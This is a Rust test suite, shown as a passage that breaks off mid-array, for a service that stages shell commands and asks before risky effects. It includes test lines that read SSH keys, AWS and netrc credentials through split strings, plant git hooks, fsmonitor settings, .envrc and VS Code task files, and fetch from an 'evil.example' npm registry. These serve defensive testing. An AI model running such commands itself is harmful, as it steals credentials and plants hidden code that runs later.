//! Staged runs through a real service (features N4 to N7): what changes files is run where nothing counts, its effects are
//! judged, asked about, committed or thrown away.

use std::os::unix::fs::PermissionsExt as _;

use crate::common::project::Project;
use crate::common::{free_port, wait};
use serde_json::{Value, json};

impl Project {
    fn body(&self, line: &str) -> String {
        json!({"action": "RUN_COMMAND", "target": line, "cwd": self.work}).to_string()
    }

    /// Runs a line that is asked about, and answers; the question as a person sees it, and the end.
    fn asked_line(&self, line: &str, answer: &str) -> (Value, Value) {
        self.asked(answer, || self.act_line(line))
    }

    /// The sums of the record, as the console shows them.
    fn figures(&self) -> Value {
        self.service.get("/console/api/figures").token(&self.service.approve).send().json()
    }

    /// The phases that the record tells of, in order.
    fn phases(&self) -> Vec<String> {
        let lines = self.service.journal();
        lines.iter().filter_map(|line| Some(line["phase"].as_str()?.to_owned())).collect()
    }
}

fn changes(reply: &Value) -> Vec<(String, String)> {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let all = reply["effects"]["changes"].as_array().cloned().unwrap_or_default();
    all.iter().map(|one| (text(&one["change"]), text(&one["path"]))).collect()
}

#[test]
fn what_stays_in_the_project_is_done_without_a_question() {
    let scene = Project::new("workspace");
    for (line, kind, path) in [
        ("touch new", "created", "new"),
        ("mkdir -p deep/er", "created", "deep"),
        ("sed -i s/one/1/ a.txt", "changed", "a.txt"),
        ("mv a.txt c.txt", "renamed", "c.txt"),
        ("chmod 600 c.txt", "attributes", "c.txt"),
        ("rm c.txt", "deleted", "c.txt"),
        ("rm -rf src", "deleted", "src"),
        ("for i in 1 2 3; do echo $i >> log; done", "created", "log"),
        ("mkdir made_here && cd made_here && touch x && cd ..", "created", "made_here"),
        ("NAME=there python3 -c 'import os; open(os.environ[\"NAME\"], \"w\")'", "created", "there"),
        ("python3 -c 'open(\"made\", \"w\").write(\"x\")'", "created", "made"),
    ] {
        let reply = scene.act_line(line);
        assert_eq!(
            (&reply["outcome"], &reply["decided_by"]),
            (&json!("done"), &json!("policy")),
            "{line}: {reply}"
        );
        assert_eq!(
            (&reply["run"]["way"], &reply["output"]["exit_code"]),
            (&json!("stage"), &json!(0)),
            "{line}"
        );
        let path = scene.work.join(path).to_string_lossy().into_owned();
        assert!(changes(&reply).contains(&(kind.to_owned(), path)), "{line}: {reply}");
        assert!(reply["undo"]["until"].is_string(), "{line}: {reply}");
    }
    assert_eq!((scene.read("log").as_deref(), scene.read("made").as_deref()), (Some("1\n2\n3\n"), Some("x")));
    assert!(!scene.work.join("c.txt").exists() && !scene.work.join("src").exists());
    // Whatever their words alone would have required, nobody was asked.
    let figures = scene.figures();
    assert_eq!(figures["fates"], json!({"done_unasked": 11}), "{figures}");
    assert!(figures["verdicts"]["requires_confirmation"].is_u64(), "{figures}");
}

#[test]
fn a_file_is_as_large_as_the_command_made_it() {
    let scene = Project::new("workspace");
    let reply = scene.act_line("truncate -s 5G sparse");
    assert_eq!((&reply["outcome"], &reply["output"]["exit_code"]), (&json!("done"), &json!(0)), "{reply}");
    assert_eq!(std::fs::metadata(scene.work.join("sparse")).unwrap().len(), 5 << 30);
}

/// The home folder is not below `/tmp` here, as people's are not.
#[test]
fn what_is_written_beside_an_own_folder_below_tmp_is_there() {
    let place = tempfile::tempdir_in(std::env::var_os("HOME").unwrap()).unwrap();
    let made = crate::common::folder("", "profile = \"workspace\"");
    std::fs::copy(made.path().join("config.toml"), place.path().join("config.toml")).unwrap();
    let service = crate::common::Service::on(place);
    let work = tempfile::Builder::new().prefix("own").tempdir_in("/tmp").unwrap();
    std::fs::create_dir_all(work.path().join("below")).unwrap();
    for (cwd, text) in [("", "one"), ("below", "two")] {
        let cwd = work.path().join(cwd);
        let beside = work.path().with_extension(text);
        let line = format!("echo {text} > own.txt; echo {text} > {}", beside.display());
        let body = json!({"action": "RUN_COMMAND", "target": line, "cwd": cwd});
        let reply = service.perform(&body);
        assert_eq!(reply["outcome"], "done", "{reply:#}");
        for file in [cwd.join("own.txt"), beside] {
            assert_eq!(std::fs::read_to_string(&file).unwrap(), format!("{text}\n"), "{file:?} {reply:#}");
            std::fs::remove_file(file).unwrap();
        }
    }
}

#[test]
fn what_changes_nothing_is_over_when_it_is_over() {
    let scene = Project::new("workspace");
    let reply = scene.act_line("python3 -c 'print(6 * 7)'");
    assert_eq!(
        (&reply["run"]["way"], &reply["output"]["stdout"]),
        (&json!("stage"), &json!("42\n")),
        "{reply}"
    );
    assert!(reply["effects"]["changes"].as_array().is_none_or(Vec::is_empty) && reply["undo"].is_null());
    assert_eq!(scene.phases(), ["staged", "staged"]);
}

#[test]
fn what_leads_out_of_the_project_or_runs_later_is_asked() {
    let scene = Project::new("workspace");
    for line in [
        "echo x > ~/outside",
        "echo x > .envrc",
        "mkdir -p .github/workflows && echo x > .github/workflows/ci.yml",
        "ln -s /etc/passwd link",
        "cp -r src new && mkdir new/.vscode && echo x > new/.vscode/tasks.json",
    ] {
        let (question, reply) = scene.asked_line(line, "no");
        assert_eq!(reply["outcome"], "denied", "{line}: {reply}");
        assert!(reply["output"].is_null(), "{line}: {reply}");
        assert!(!question["effects"]["changes"].as_array().unwrap().is_empty(), "{line}: {question}");
    }
    let mut names: Vec<_> =
        std::fs::read_dir(&scene.work).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    names.sort();
    assert_eq!(names, ["a.txt", "src"]);
    assert!(!scene.service.folder.path().join("outside").exists());
}

/// The record's view of a staged run while it waits, and afterwards: `guarda audit tail` and `guarda history` in three languages,
/// the console's history, and the sums.
#[test]
fn a_run_that_waits_for_its_answer_is_not_told_as_done() {
    let scene = Project::new("desktop");
    let tail = |locale: &str| {
        let page = |words: &[&str]| {
            let mut audit = crate::common::guarda(scene.service.folder.path());
            let out = audit.args(words).env("LC_ALL", locale).output().unwrap();
            String::from_utf8(out.stdout).unwrap()
        };
        let out = page(&["audit", "tail"]);
        // The everyday name leaves out what only an auditor asks for.
        let rows: String =
            out.split_inclusive('\n').filter(|row| !row.contains("desk-") || row.contains("_0")).collect();
        assert_eq!(page(&["history"]), rows);
        if let Some(id) = out.split_whitespace().find(|word| word.ends_with("_001")) {
            let told = page(&["history", id]);
            for name in ["RUN_COMMAND", "FILE_", "answered_by", "requires_", "user_", "effects-", "audit-row"]
            {
                assert!(!told.contains(name), "{name}: {told}");
            }
            assert!(told.contains("touch") && page(&["audit", "show", id]).contains("RUN_COMMAND"), "{told}");
        }
        let rows = out.lines().filter(|row| row.contains("touch")).map(str::to_owned);
        rows.collect::<Vec<_>>()
    };
    let history = || {
        let page = scene.service.get("/console/api/history").token(&scene.service.approve).send().json();
        page["lines"].as_array().unwrap().iter().map(|row| row["fate"].clone()).collect::<Vec<_>>()
    };
    let sums = || {
        let page = scene.figures();
        (page["requests"].clone(), page["ends"].clone(), page["fates"].clone())
    };
    let locales = ["en_GB.UTF-8", "pt_BR.UTF-8", "fr_FR.UTF-8"];
    let yes = ["done after a yes", "feito após um sim", "fait après un oui"];
    for (place, (answer, fate, ends)) in
        [("no", "denied", ["denied", "negado", "refusé"]), ("yes", "done_approved", yes)]
            .into_iter()
            .enumerate()
    {
        let line = format!("touch {answer}");
        std::thread::scope(|scope| {
            let running = scope.spawn(|| scene.act_line(&line));
            let number = scene.service.question();
            for (locale, asked) in locales.iter().zip(["waiting", "em espera", "en attente"]) {
                let rows = tail(locale);
                assert_eq!(rows.len(), place + 1, "one row a request: {rows:#?}");
                assert!(rows[place].contains(asked), "{locale}: {rows:#?}");
            }
            assert_eq!((&history()[0], &sums().2["waiting"]), (&json!("waiting"), &json!(1)));
            assert_eq!(sums().1["open"], json!(1));
            let path = format!("/v1/questions/{number}/answer");
            let body = json!({ "answer": answer }).to_string();
            assert_eq!(scene.service.post(&path, body).token(&scene.service.approve).send().status, 200);
            running.join().unwrap();
        });
        for (locale, end) in locales.iter().zip(ends) {
            let rows = tail(locale);
            assert_eq!(rows.len(), place + 1, "one row a request: {rows:#?}");
            assert!(rows[place].contains(end), "{locale}: {rows:#?}");
        }
        let rows = history();
        assert_eq!((rows.len(), &rows[0]), (place + 1, &json!(fate)), "{rows:?}");
    }
    let (ends, fates) = (json!({"denied": 1, "completed": 1}), json!({"denied": 1, "done_approved": 1}));
    assert_eq!(sums(), (json!(2), ends, fates));
    let lines = scene.service.journal();
    let numbers: std::collections::BTreeSet<_> =
        lines.iter().filter_map(|line| line["audit_id"].as_str()).filter(|id| !id.is_empty()).collect();
    assert_eq!(numbers.len(), 2, "{lines:#?}");
    let held = lines.iter().find(|line| line["event"] == "outcome" && line["phase"] == "staged").unwrap();
    assert!(held["status"].is_null() && held["output_summary"] == "", "{held}");
}

#[test]
fn on_a_desktop_every_change_is_asked_in_exact_words() {
    let scene = Project::new("desktop");
    let (question, reply) = scene.asked_line("rm a.txt && echo done", "no");
    assert_eq!((&reply["outcome"], scene.read("a.txt").is_some()), (&json!("denied"), true), "{reply}");
    assert_eq!(question["effects"]["changes"][0]["mark"], "deleted", "{question}");
    let (question, reply) = scene.asked_line("rm a.txt && echo done", "yes");
    assert_eq!((&reply["outcome"], scene.read("a.txt")), (&json!("done"), None), "{reply}");
    assert_eq!(reply["output"]["stdout"], "done\n");
    assert!(question["effects"]["text"].as_str().unwrap().contains("a.txt"), "{question}");
    assert_eq!(
        scene.phases(),
        ["staged", "staged", "commit", "discard", "staged", "staged", "commit", "commit", "commit"]
    );
}

/// Four deletions are more than the sentence names.
#[test]
fn a_yes_from_elsewhere_says_which_list_was_shown() {
    let scene = Project::new("desktop");
    for name in ["b", "c", "d"] {
        std::fs::write(scene.work.join(name), name).unwrap();
    }
    let reply = std::thread::scope(|scope| {
        let running = scope.spawn(|| scene.act_line("rm a.txt b c d"));
        let number = scene.service.question();
        let path = format!("/v1/questions/{number}/answer");
        let question = scene.service.get(&format!("/v1/questions/{number}")).token(&scene.service.approve);
        let question = question.send().json();
        assert_eq!(question["effects"]["list"], true, "{question}");
        let digest = question["effects"]["digest"].as_str().unwrap();
        assert!(!question["prompt"].as_str().unwrap().contains("a.txt"), "{question}");
        for shown in [Value::Null, json!(""), json!(digest.to_uppercase()), json!("0".repeat(64))] {
            let body = json!({"answer": "yes", "shown": shown}).to_string();
            let answer = scene.service.post(&path, body).token(&scene.service.approve).send();
            assert_eq!(answer.status, 403, "{shown}: {answer:?}");
        }
        assert!(scene.read("a.txt").is_some());
        let mut approve = crate::common::guarda(scene.service.folder.path());
        let output = approve.args(["approve", &number[..8]]).output().unwrap();
        let card = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(output.status.success(), "{output:?}");
        for name in ["a.txt", "b", "c", "d"] {
            assert!(card.contains(&format!("− {name} ")), "{card}");
        }
        running.join().unwrap()
    });
    assert_eq!((&reply["outcome"], scene.read("a.txt")), (&json!("done"), None), "{reply}");
}

#[test]
fn what_somebody_else_changed_meanwhile_is_not_overwritten() {
    let scene = Project::new("desktop");
    let reply = std::thread::scope(|scope| {
        let running = scope.spawn(|| scene.act_line("sed -i s/one/1/ a.txt"));
        let number = scene.service.question();
        std::fs::write(scene.work.join("a.txt"), "somebody else\n").unwrap();
        assert_eq!(scene.service.answer(&number, "yes").status, 200);
        running.join().unwrap()
    });
    assert_eq!((&reply["outcome"], &reply["error"]), (&json!("failed"), &json!("changed")), "{reply}");
    assert_eq!(scene.read("a.txt").as_deref(), Some("somebody else\n"));
}

#[test]
fn what_a_run_tried_to_reach_is_told() {
    let scene = Project::new("desktop");
    let port = "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 9))'; touch new";
    let (question, _) = scene.asked_line(port, "no");
    assert_eq!(
        question["effects"]["tried"],
        json!({"machines": 0, "ports": 1, "sought": ["127.0.0.1:9"]}),
        "{question}"
    );
    let other = "python3 -c 'import socket; socket.socket().connect_ex((\"192.0.2.1\", 9))'; touch new";
    let (question, _) = scene.asked_line(other, "no");
    let tried = &question["effects"]["tried"];
    assert!(tried["machines"].as_u64() > Some(0) && tried["ports"] == 0, "{question}");
    assert_eq!(tried["sought"], json!(["192.0.2.1:9"]));
    let notes = question["effects"]["notes"].as_array().unwrap();
    assert!(notes.len() == 1 && notes[0].as_str().unwrap().ends_with(": 192.0.2.1:9"), "{notes:?}");
    let lines = scene.service.journal();
    let told = lines.iter().filter(|line| line["tried"] == json!(["192.0.2.1:9"]));
    let events: Vec<_> = told.map(|line| line["event"].clone()).collect();
    assert_eq!(events, ["asked", "refusal"], "{lines:#?}");
    // A failing command is asked about by its words, and the question names the address that it could not reach.
    let failing = "python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 9))'";
    let (question, _) = scene.asked_line(failing, "no");
    assert!(question.to_string().contains("failed for want of one: 192.0.2.1:9"), "{question}");
    // A program that finally connects to its own listener missed nothing.
    let served = "python3 -c 'import socket; s = socket.socket(); s.bind((\"127.0.0.1\", 0)); p = s.getsockname(); \
                  socket.socket().connect_ex(p); s.listen(); c = socket.socket(); c.connect(p); s.accept()'; touch new";
    let (question, _) = scene.asked_line(served, "no");
    assert_eq!(question["effects"]["tried"], json!({"machines": 0, "ports": 0, "sought": []}), "{question}");
}

#[test]
fn a_cache_is_kept_if_its_person_says_so() {
    let write = "python3 -c 'open(__import__(\"os\").path.expanduser(\"~/.cache/a\"), \"w\").write(\"x\")'";
    for (config, kept) in [("", false), ("[undo]\nkeep_caches = [\".cache\"]", true)] {
        let scene = Project::with("workspace", config);
        let cache = scene.service.folder.path().join(".cache");
        std::fs::create_dir_all(&cache).unwrap();
        let reply = scene.act_line(write);
        assert_eq!((&reply["outcome"], &reply["decided_by"]), (&json!("done"), &json!("policy")), "{reply}");
        assert_eq!(cache.join("a").exists(), kept, "{reply}");
        if kept {
            let undone = scene.act(&json!({"action": "UNDO", "cwd": scene.work}));
            assert_eq!(undone["outcome"], json!("done"), "{undone}");
            assert!(!cache.join("a").exists());
        }
    }
}

#[test]
fn what_fails_only_because_it_is_held_back_is_asked_by_its_words() {
    let scene = Project::new("workspace");
    for line in [
        // It lacks the network.
        "python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 9), 1)'",
        // It lacks a port of this machine.
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 9), 1)'",
        // A folder that was there before cannot be renamed.
        "python3 -c 'import os; os.rename(\"src\", \"lib\")'",
        // Nobody can connect to it.
        "python3 -c 'import http.server as h; h.HTTPServer((\"127.0.0.1\", 8123), h.BaseHTTPRequestHandler).serve_forever()'",
    ] {
        let (question, reply) = scene.asked_line(line, "no");
        assert_eq!((&reply["run"]["way"], &reply["outcome"]), (&json!("act"), &json!("denied")), "{reply}");
        assert!(question["effects"].is_null(), "{question}");
        let rules: Vec<_> =
            reply["findings"].as_array().unwrap().iter().map(|one| one["rule"].clone()).collect();
        let serves = line.contains("http.server");
        let rule = if serves { "wants-port" } else { "not-staged" };
        assert!(rules.contains(&json!(rule)), "{line}: {reply}");
        if serves {
            assert!(question.to_string().contains("waits for connections on port 8123"), "{question}");
        }
    }
    assert!(scene.work.join("src").exists());
}

/// A secret is hidden from what nobody was asked about. What fails for want of one is asked by its words, and a yes opens that
/// secret alone.
#[test]
fn what_fails_on_a_hidden_file_is_asked_about_and_its_yes_opens_it() {
    let scene = Project::new("workspace");
    let home = scene.service.folder.path();
    let plainly = |line: &str| {
        let mut shell = std::process::Command::new("/bin/sh");
        shell.args(["-c", line]).env("HOME", home).current_dir(&scene.work);
        let done = shell.output().unwrap();
        assert!(done.status.success(), "{line}: {done:?}");
    };
    plainly(
        "echo 'X=1' > .env && echo key > ~/.aws/credentials && echo other > ~/.netrc && \
         ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/signs && git init -q . && git config user.name A && git config user.email a@b && \
         git config gpg.format ssh && git config user.signingkey ~/.ssh/signs.pub && echo .env > .gitignore && git add .",
    );
    let reads = |(one, two): (&str, &str)| {
        format!(
            "python3 -c 'import os; t = open(os.path.expanduser(\"{one}\" + \"{two}\")).read(); open(\"read\", \"w\").write(t)'"
        )
    };
    for (line, named) in [
        (reads((".e", "nv")), ".env"),
        (reads(("~/.ne", "trc")), "~/.netrc"),
        (reads(("~/.a", "ws/credentials")), "~/.aws"),
        ("git commit -q -S -m signed".to_owned(), "~/.ssh"),
        ("printf 'git commit -q --amend -S -m again' > s; sh s".to_owned(), "~/.ssh"),
        ("tar cf all.tar --exclude=.git --exclude=all.tar .".to_owned(), ".env"),
    ] {
        let (question, reply) = scene.asked_line(&line, "no");
        let about = |finding: &&Value| finding["rule"] == "wants-hidden";
        let found = reply["findings"].as_array().unwrap().iter().find(about).cloned().unwrap_or_default();
        let names = found["names"][0].as_str().unwrap_or_default();
        assert!(names == named && found["names"].as_array().unwrap().len() == 1, "{line}: {reply}");
        assert!(question["prompt"].to_string().contains(named), "{line}: {question}");
        let (_, reply) = scene.asked_line(&line, "yes");
        assert_eq!(reply["output"]["exit_code"], 0, "{line}: {reply}");
    }
    assert!(scene.read("read").is_some_and(|text| text.contains("key")));
    plainly(
        "git -c gpg.ssh.allowedSignersFile=/dev/null log -1 --format=%G? | grep -q '[^N]'; tar tf all.tar | grep -q '^./.env$'",
    );
    // The other secrets stay hidden.
    let both = reads(("~/.a", "ws/credentials")) + "; " + &reads(("~/.ne", "trc"));
    let (_, reply) = scene.asked_line(&both, "yes");
    assert_eq!(reply["output"]["exit_code"], 0, "{reply}");
    // So does a yes to a line that names one.
    for (line, output) in
        [("cat ~/.netrc", "other\n"), ("cat ~/.aws/credentials ~/.ssh/signs.pub | head -1", "key\n")]
    {
        let (_, reply) = scene.asked_line(line, "yes");
        assert_eq!(reply["output"]["stdout"], output, "{line}: {reply}");
    }
    // What succeeds is not asked about, nor what fails for another reason.
    for (line, status) in [
        ("python3 -c 'try: open(\".e\" + \"nv\")\nexcept OSError as e: print(e)'; touch done", 0),
        ("python3 -c 'print(\"see .e\" + \"nv\"); exit(3)'", 3),
        ("python3 -c 'open(\"/etc/shadow-\" + \"x\", \"w\")'", 1),
    ] {
        let reply = scene.act_line(line);
        let told = (&reply["decided_by"], &reply["output"]["exit_code"]);
        assert_eq!(told, (&json!("policy"), &json!(status)), "{line}: {reply}");
    }
}

/// A held-back run reaches no socket of another program. Without its answer it fails, and is asked about; a yes reaches it.
#[test]
fn what_fails_without_a_socket_of_another_program_is_asked_about_and_its_yes_reaches_it() {
    use std::io::Write as _;
    let scene = Project::new("workspace");
    let temporary = tempfile::Builder::new().prefix("guarda-socket-").tempdir_in("/tmp").unwrap();
    for folder in [scene.service.folder.path(), &scene.work, temporary.path()] {
        let path = std::fs::canonicalize(folder).unwrap().join("service");
        let (served, at) = (std::os::unix::net::UnixListener::bind(&path).unwrap(), path.display());
        let line = |end: &str| {
            format!(
                "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{at}\"[:]); d = s.recv(9); print(d); {end}'"
            )
        };
        let (question, reply) = scene.asked_line(&line("exit(not d)"), "no");
        assert!(question["prompt"].to_string().contains("service"), "{question}");
        assert_eq!(reply["outcome"], "denied", "{reply}");
        let serving = std::thread::spawn(move || {
            let (mut client, _) = served.accept().unwrap();
            client.write_all(b"hello").unwrap();
            served
        });
        let (_, reply) = scene.asked_line(&line("exit(not d)"), "yes");
        assert_eq!(reply["output"]["stdout"], "b'hello'\n", "{reply}");
        // What does without it is not asked about, nor does it reach it.
        let served = serving.join().unwrap();
        let reply = scene.act_line(&line(""));
        let told = (&reply["decided_by"], &reply["output"]["stdout"]);
        assert_eq!(told, (&json!("policy"), &json!("b''\n")), "{reply}");
        served.set_nonblocking(true).unwrap();
        assert!(served.accept().is_err());
    }
}

/// A key that only an agent has: the run fails without it, is asked about, and a yes reaches the agent.
#[test]
fn a_yes_reaches_the_agent_that_signs() {
    let folder = crate::common::folder("", "confirmation_timeout_seconds = 20\nprofile = \"workspace\"");
    let home = std::fs::canonicalize(folder.path()).unwrap();
    let work = home.join("work");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(&work).unwrap();
    let socket = home.join("agent");
    let mut agent = std::process::Command::new("ssh-agent").arg("-D").arg("-a").arg(&socket).spawn().unwrap();
    wait("the agent", || socket.exists().then_some(()));
    let script = "ssh-keygen -q -t ed25519 -N '' -f ../k && ssh-add -q ../k && mv ../k.pub ~/.ssh/signs.pub && rm ../k && git init -q . && \
                  git config user.name A && git config user.email a@b && git config gpg.format ssh && \
                  git config user.signingkey ~/.ssh/signs.pub && touch a && git add a";
    let mut shell = std::process::Command::new("/bin/sh");
    shell.args(["-c", script]).env("HOME", &home).env("SSH_AUTH_SOCK", &socket).current_dir(&work);
    let made = shell.output().unwrap();
    assert!(made.status.success(), "{made:?}");
    let mut command = crate::common::guarda(&home);
    command.args(["serve", "--ready-json"]).env("SSH_AUTH_SOCK", &socket);
    let state = home.join("state");
    let scene = Project { service: crate::common::Service::launch(command, folder, &state), work };
    scene.service.trust(&scene.work);
    for (line, named) in [("git commit -q -S -m signed", "~/.ssh"), ("ssh-add -l >/dev/null", "agent")] {
        let (question, reply) = scene.asked_line(line, "yes");
        assert!(question["prompt"].to_string().contains(named), "{line}: {question}");
        assert_eq!(reply["output"]["exit_code"], 0, "{line}: {reply}");
    }
    agent.kill().unwrap();
    agent.wait().unwrap();
}

/// The port that a held-back run waited on, and the ones that it sought on this machine, are in the question and granted by its yes.
#[test]
fn a_yes_lets_a_server_serve_and_a_client_reach_this_machine() {
    use std::io::{Read as _, Write as _};
    let scene = Project::new("workspace");
    // A server, for one request. The address that it listens on is its own business.
    for address in ["127.0.0.1", "::1", ""] {
        let port = free_port();
        let line = format!(
            "python3 -c 'import socket, http.server as h; h.HTTPServer.address_family = socket.AF_INET{}; \
             h.HTTPServer((\"{address}\", {port}), h.SimpleHTTPRequestHandler).handle_request()'",
            if address == "::1" { "6" } else { "" }
        );
        let fetched = || {
            wait("the server's answer", || {
                let mut client = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
                client.write_all(b"GET /a.txt HTTP/1.0\r\n\r\n").ok()?;
                let mut answer = String::new();
                client.read_to_string(&mut answer).ok()?;
                answer.contains("one").then_some(answer)
            })
        };
        let (question, reply) = scene.asked("yes", || {
            std::thread::scope(|scope| {
                let running = scope.spawn(|| scene.act_line(&line));
                let answer = fetched();
                assert!(answer.starts_with("HTTP/1.0 200"), "{answer}");
                running.join().unwrap()
            })
        });
        assert!(question["prompt"].to_string().contains(&port.to_string()), "{line}: {question}");
        assert_eq!(reply["output"]["exit_code"], 0, "{line}: {reply}");
        // It is closed again.
        assert!(std::net::TcpStream::connect(("127.0.0.1", port)).is_err());
    }
    // A client of a server that a person has running.
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let serving = std::thread::spawn(move || {
        let (mut client, _) = server.accept().unwrap();
        client.write_all(b"hello").unwrap();
    });
    let line = format!(
        "python3 -c 'import socket; print(socket.create_connection((\"localhost\", {port})).recv(9))'"
    );
    let (question, reply) = scene.asked_line(&line, "yes");
    assert!(question.to_string().contains(&format!(":{port}")), "{question}");
    assert_eq!(reply["output"]["stdout"], "b'hello'\n", "{reply}");
    serving.join().unwrap();
    // A server and its client in one line, which names the port. That it was not there yet at first is not told.
    let port = free_port();
    let line = format!(
        "{{ sleep 1; exec python3 -m http.server {port}; }} >/dev/null 2>&1 & for n in 1 2 3 4 5 6 7 8 9; do sleep 0.2; curl -s localhost:{port}/a.txt && break; done; kill $!"
    );
    let reply = scene.act_line(&line);
    let said = (&reply["output"]["stdout"], &reply["output"]["stderr"], &reply["decided_by"]);
    assert_eq!(said, (&json!("one\ntwo\n"), &json!(""), &json!("policy")), "{reply}");
}

#[test]
fn another_command_in_its_place_is_staged_anew() {
    let scene = Project::new("desktop");
    let reply = std::thread::scope(|scope| {
        let running = scope.spawn(|| scene.act_line("rm a.txt"));
        let first = scene.service.question();
        let change = json!({"answer": "modify", "command": "mv a.txt kept.txt"}).to_string();
        let path = format!("/v1/questions/{first}/answer");
        let token = std::fs::read_to_string(scene.service.state("approve-token")).unwrap();
        assert_eq!(scene.service.post(&path, change).token(token.trim()).send().status, 200);
        let second = wait("the second question", || {
            scene.service.questions().into_iter().find(|number| *number != first)
        });
        assert_eq!(scene.service.answer(&second, "yes").status, 200);
        running.join().unwrap()
    });
    assert_eq!(
        (&reply["outcome"], &reply["modified_command"]),
        (&json!("done"), &json!("mv a.txt kept.txt")),
        "{reply}"
    );
    assert_eq!((scene.read("a.txt"), scene.read("kept.txt").as_deref()), (None, Some("one\ntwo\n")));
}

#[test]
fn secrets_and_the_guards_own_files_are_not_there() {
    let scene = Project::new("workspace");
    let home = scene.service.folder.path();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "SECRET KEY").unwrap();
    let line = "python3 -c 'import os; print(open(os.path.expanduser(\"~/.s\" + \"sh/id_ed25519\")).read())'";
    let (question, reply) = scene.asked_line(line, "no");
    assert_eq!(reply["outcome"], "denied", "{question} {reply}");
    let line = "python3 -c 'import os; print(os.listdir(os.path.expanduser(\"~/sta\" + \"te\")))'";
    let reply = scene.act_line(line);
    assert_eq!(reply["output"]["stdout"], "[]\n", "{reply}");
    assert!(!reply["output"]["stdout"].as_str().unwrap_or_default().contains("token"), "{reply}");
    // Old versions that lie beside a folder, where a file system has no other place for them.
    let name = format!(".guarda-costas-{}", rustix::process::geteuid().as_raw());
    let (_, tail) = name.split_at(".guarda".len());
    for place in [scene.work.join(&name), scene.work.join("src").join(&name)] {
        std::fs::create_dir(&place).unwrap();
        std::fs::write(place.join("old"), "OLD VERSION").unwrap();
        let line = format!(
            "python3 -c 'print(open(\"{}\" + \"{tail}/old\").read())'",
            place.to_str().unwrap().strip_suffix(tail).unwrap()
        );
        let reply = scene.act_line(&line);
        assert_ne!(reply["output"]["exit_code"], 0, "{reply}");
        assert!(!reply.to_string().contains("OLD VERSION"), "{reply}");
    }
}

#[test]
fn a_cache_that_cannot_be_read_does_not_hinder() {
    let scene = Project::new("workspace");
    let cache = scene.service.folder.path().join(".cache");
    std::fs::create_dir_all(&cache).unwrap();
    std::fs::set_permissions(&cache, std::fs::Permissions::from_mode(0o000)).unwrap();
    let reply = scene.act_line("rm a.txt");
    assert_eq!((&reply["outcome"], &reply["run"]["way"]), (&json!("done"), &json!("stage")), "{reply}");
    assert!(reply["undo"]["until"].is_string(), "{reply}");
    std::fs::set_permissions(&cache, std::fs::Permissions::from_mode(0o700)).unwrap();
}

#[test]
fn what_cannot_be_held_back_is_asked_by_its_words() {
    let scene = Project::new("workspace");
    for line in ["npm start", "git push", "systemctl restart nginx", "kill 1", "sleep 100 &"] {
        let answer = scene.service.post("/v1/judge", scene.body(line)).send().json();
        assert_ne!(answer["run"]["way"], "stage", "{line}: {answer}");
    }
}

#[test]
fn allowed_packages_are_fetched_without_a_question_and_their_writes_are_held_back() {
    let run = |allow: &str, profile: &str, line: &str| {
        let scene = Project::with(profile, &format!("[network]\nallow = [{allow}]\n"));
        let judged = scene.service.post("/v1/judge", scene.body(line)).send().json();
        let network = &judged["run"]["network"];
        (judged["run"]["status"].clone(), judged["run"]["way"].clone(), network["access"].clone())
    };
    let said = |status: &str, way: &str, access: &str| (json!(status), json!(way), json!(access));
    let asked = said("requires_confirmation", "act", "hosts");
    assert_eq!(run("", "workspace", "npm ci"), asked);
    assert_eq!(run("'npm'", "workspace", "npm ci"), said("approved", "stage", "hosts"));
    assert_eq!(run("'npm'", "workspace", "npm publish"), asked);
    assert_eq!(run("'npm'", "workspace", "npm ci --registry https://evil.example"), asked);
    assert_eq!(run("'npm'", "desktop", "npm ci"), asked);
    assert_eq!(run("'pypi'", "workspace", "npm ci"), asked);
}

/// A server of this machine that answers each request with "here".
fn here() -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        while let Ok((mut stream, _)) = listener.accept() {
            let _ = std::io::Read::read(&mut stream, &mut [0; 4096]);
            let _ =
                std::io::Write::write_all(&mut stream, b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nhere\n");
        }
    });
    port
}

/// A held-back run that fetches has its network, and no other.
#[test]
fn what_a_held_back_run_may_fetch_arrives() {
    let port = here();
    let scene = Project::with("workspace", &format!("[network]\nhosts = [\"localhost:{port}\"]\n"));
    let reply = scene.act_line(&format!("curl -s -m 20 -o got http://localhost:{port}/x && cat got"));
    assert_eq!((&reply["decided_by"], &reply["run"]["way"]), (&json!("policy"), &json!("stage")), "{reply}");
    assert_eq!(reply["output"]["stdout"], "here\n", "{reply}");
    assert_eq!(std::fs::read_to_string(scene.work.join("got")).unwrap(), "here\n");
}

/// A guarded place, the program of a line that was approved for the network, and the file `go` that has it write there. The words of the line
/// name neither. Nothing of these places is there when the run begins, but for git's own.
const GUARDED: &[(&str, &str, &str)] = &[
    (".git/config", "bash go", "git config core.fsmonitor 'touch made'"),
    (".git/config", "bash go", "sed -i '$a [alias]\\n\\tst = !touch made' .git/config"),
    (".git/hooks/pre-push", "bash go", "cp a.txt .git/hooks/pre-push"),
    (".git/hooks/post-merge", "bash go", "mv src/b.txt .git/hooks/post-merge"),
    (
        ".git/info/attributes",
        "perl go",
        "mkdir '.git/info'; open F, '>.git/info/attributes'; print F '* filter=x'",
    ),
    (".git/hooks/update", "bash go", "tar cf - a.txt | tar xf - --transform s/a.txt/update/ -C .git/hooks"),
    (".envrc", "make -f go", "all:\n\tprintf x > .envrc\n"),
    ("sub/.envrc", "bash go", "mkdir -p new && printf x > new/.envrc && mv new sub"),
    (
        ".vscode/tasks.json",
        "node go",
        "const f = require('fs'); f.mkdirSync('.vscode'); f.writeFileSync('.vscode/tasks.json', '{}')",
    ),
